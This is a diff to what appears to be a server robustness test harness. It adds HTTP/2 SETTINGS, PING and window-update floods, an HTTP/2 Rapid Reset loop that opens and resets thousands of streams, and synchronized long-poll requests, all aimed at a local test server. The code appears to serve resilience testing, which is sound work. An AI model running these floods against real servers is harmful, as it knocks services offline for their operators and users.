@@ -40,6 +40,7 @@ _BURST = 200  # of connections that are being opened at a time, for the system k
 _MESSAGE = 10_000_000
 _PIECE = 10_000_000
 _FLOOD_SECONDS = 5.0
+_TOGETHER = 3.0  # until all strangers are connected, and less than the server's timeout for the next request
 _FLOOD_PIECE = 64 * 1024
 _UPGRADE = (
     "GET {path} HTTP/1.1\r\nHost: test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
@@ -49,11 +50,23 @@ _SOCKET = "/socket/websocket?vsn=2.0.0"
 
 
 class _Line:
-    """The line of one stranger to the server. `began` is the time at which it began to connect."""
+    """The line of one stranger to the server.
 
-    def __init__(self, stream: trio.SocketStream, began: float) -> None:
+    Args:
+        stream: the connection.
+        began: the time at which the stranger began to connect.
+        together: the time at which all strangers of an attack act at once, if the attack wants that.
+
+    Attributes:
+        answers: the answers of the server so far, at most 64 KiB.
+    """
+
+    def __init__(self, stream: trio.SocketStream, began: float, together: float) -> None:
         self.stream = stream
+        self.together = together
+        self.answers = b""
         self._began = began
+        self._more = trio.Event()
         self._took: float | None = None
 
     async def send_all(self, data: bytes) -> None:
@@ -64,6 +77,16 @@ class _Line:
         await self.stream.send_all(data)
         if is_first:
             self._took = trio.current_time() - self._began
+
+    def hear(self, piece: bytes | bytearray) -> None:
+        """Keep a piece of the server's answers."""
+        self.answers = (self.answers + piece)[-65536:]
+        self._more.set()
+        self._more = trio.Event()
+
+    async def more(self) -> None:
+        """Wait for the next piece of the server's answers."""
+        await self._more.wait()
 
     def was_late(self, seconds: float) -> bool:
         """Return True if the stranger's first data went out at least so many seconds after it began to connect."""
@@ -121,10 +144,68 @@ async def _second_head(line: _Line) -> None:
     await _trickle(line, _upgrade())
 
 
+def _http2_frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
+    header = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
+    return header + payload
+
+
+_HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 1, 3, 4, 6, 7, 8
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _http2_frame(_SETTINGS)
+# GET / of the host `test`. Flags 5: no body and no further headers follow.
+_GET = b"\x82\x84\x86\x01\x04test"
+
+
 async def _idle_http2(line: _Line) -> None:
-    await line.send_all(
-        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
-    )
+    await line.send_all(_PREFACE)
+
+
+async def _http2_flood(line: _Line, frame: bytes) -> None:
+    await line.send_all(_PREFACE)
+    await _keep_sending(line, frame * (_FLOOD_PIECE // len(frame)))
+    await line.send_all(_http2_frame(_GOAWAY, bytes(8)))
+
+
+async def _http2_settings(line: _Line) -> None:
+    await _http2_flood(line, _http2_frame(_SETTINGS, b"\x00\x04\x00\x00\xff\xff"))
+
+
+async def _http2_pings(line: _Line) -> None:
+    await _http2_flood(line, _http2_frame(_PING, bytes(8)))
+
+
+async def _http2_windows(line: _Line) -> None:
+    # The window of the connection holds 2**31 bytes, so these frames run out in the end, and the server disconnects.
+    await _http2_flood(line, _http2_frame(_WINDOW_UPDATE, b"\x00\x00\x00\x01"))
+
+
+async def _rapid_reset(line: _Line) -> None:
+    await line.send_all(_PREFACE)
+    with trio.move_on_after(_FLOOD_SECONDS):
+        for first in range(1, 2**31, 4000):
+            await line.send_all(
+                b"".join(
+                    _http2_frame(_HEADERS, _GET, flags=5, stream=number)
+                    + _http2_frame(_RESET, bytes(4), stream=number)
+                    for number in range(first, first + 4000, 2)
+                )
+            )
+    await line.stream.aclose()
+
+
+async def _polls_at_once(line: _Line) -> None:
+    head = "GET /socket/longpoll?vsn=2.0.0{} HTTP/1.1\r\nHost: test\r\n\r\n"
+    await line.send_all(head.format("").encode())
+    while (found := re.search(rb'"token":"([^"]+)"', line.answers)) is None:
+        await line.more()
+    for _ in range(2):
+        # The poll is held until the session has waited for a whole window, and then the next one comes.
+        await trio.sleep_until(line.together)
+        answers = line.answers.count(b"HTTP/1.1 ")
+        await line.send_all(head.format(f"&token={found[1].decode()}").encode())
+        while line.answers.count(b"HTTP/1.1 ") == answers:
+            await line.more()
+        line.together = trio.current_time() + 1
+    await line.stream.aclose()
 
 
 @cache
@@ -168,15 +249,18 @@ async def _bombs_that_fit(line: _Line) -> None:
 
 async def _flood(line: _Line, frames: bytes, first: bytes = b"") -> None:
     """Send frames as fast as the server takes them, for a while."""
-    piece = frames * (_FLOOD_PIECE // len(frames))
     await line.send_all(_upgrade() + first)
+    await _keep_sending(line, frames * (_FLOOD_PIECE // len(frames)))
+    await line.send_all(client_close(1000))
+
+
+async def _keep_sending(line: _Line, piece: bytes) -> None:
     with trio.move_on_after(_FLOOD_SECONDS):
         while True:
             # Not to be cut off within a frame, which would be another attack.
             with trio.CancelScope(shield=True):
                 await line.send_all(piece)
             await trio.lowlevel.checkpoint()
-    await line.send_all(client_close(1000))
 
 
 async def _pongs(line: _Line) -> None:
@@ -239,6 +323,11 @@ ATTACKS: dict[str, tuple[Stranger, tuple[int, ...]]] = {
     "a page's body, a byte a second": (_slow_page, (1000,)),
     "a second head, a byte a second": (_second_head, (1000,)),
     "HTTP/2 without a request": (_idle_http2, (1000,)),
+    "a flood of HTTP/2 settings": (_http2_settings, (1, 10, 100)),
+    "a flood of HTTP/2 pings": (_http2_pings, (1, 10, 100)),
+    "a flood of HTTP/2 window updates": (_http2_windows, (1, 10)),
+    "HTTP/2 requests, each reset at once": (_rapid_reset, (1, 10, 100)),
+    "polls at the same moment": (_polls_at_once, (500,)),
     "most of a message of 10 MB": (_half_messages, (100,)),
     "a gigabyte, compressed": (_bomb_too_big, (1, 10)),
     "ten messages of 10 MB, compressed": (_bombs_that_fit, (1, 10)),
@@ -270,13 +359,14 @@ async def attack(
             a busy machine, got `LATE` and not 408.
     """
     ends: Counter[str] = Counter()
+    together = trio.current_time() + _TOGETHER
     opening = trio.CapacityLimiter(_BURST)
 
     async def one(stranger: Stranger) -> None:
         with trio.move_on_after(PATIENCE):
             async with opening:
                 began = trio.current_time()
-                line = _Line(await trio.open_tcp_stream("127.0.0.1", port), began)
+                line = _Line(await trio.open_tcp_stream("127.0.0.1", port), began, together)
             end = await _suffer(stranger, line)
             ends[LATE if end == "408" and line.was_late(head_timeout) else end] += 1
             return
@@ -298,7 +388,6 @@ def prepare() -> None:
 
 
 async def _suffer(stranger: Stranger, line: _Line) -> str:
-    answer = b""
     async with line.stream as stream, trio.open_nursery() as nursery:
 
         async def act() -> None:
@@ -310,11 +399,11 @@ async def _suffer(stranger: Stranger, line: _Line) -> str:
         nursery.start_soon(act)
         try:
             while piece := await stream.receive_some(65536):
-                answer = (answer + piece)[-65536:] if answer else piece
-        except trio.BrokenResourceError:
-            pass  # likewise
+                line.hear(piece)
+        except (trio.BrokenResourceError, trio.ClosedResourceError):
+            pass  # likewise, or the stranger has left
         nursery.cancel_scope.cancel()
-    return _name_of(answer)
+    return _name_of(line.answers)
 
 
 def _name_of(answer: bytes) -> str:
